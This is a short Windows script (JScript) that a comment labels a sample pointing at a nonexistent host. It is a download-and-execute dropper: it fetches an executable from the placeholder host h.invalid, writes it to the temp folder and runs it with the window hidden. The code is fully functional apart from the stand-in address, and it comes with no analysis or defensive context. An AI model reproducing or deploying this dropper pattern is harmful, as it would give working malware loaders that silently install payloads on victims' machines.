// A sample: the host does not exist.
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "https://h.invalid/a.exe", false);
x.send();
var s = WScript.CreateObject("ADODB.Stream");
s.Type = 1;
s.Open();
s.Write(x.responseBody);
s.SaveToFile("%TEMP%\\a.exe", 2);
s.Close();
new ActiveXObject("WScript.Shell").Run("%TEMP%\\a.exe", 0, false);
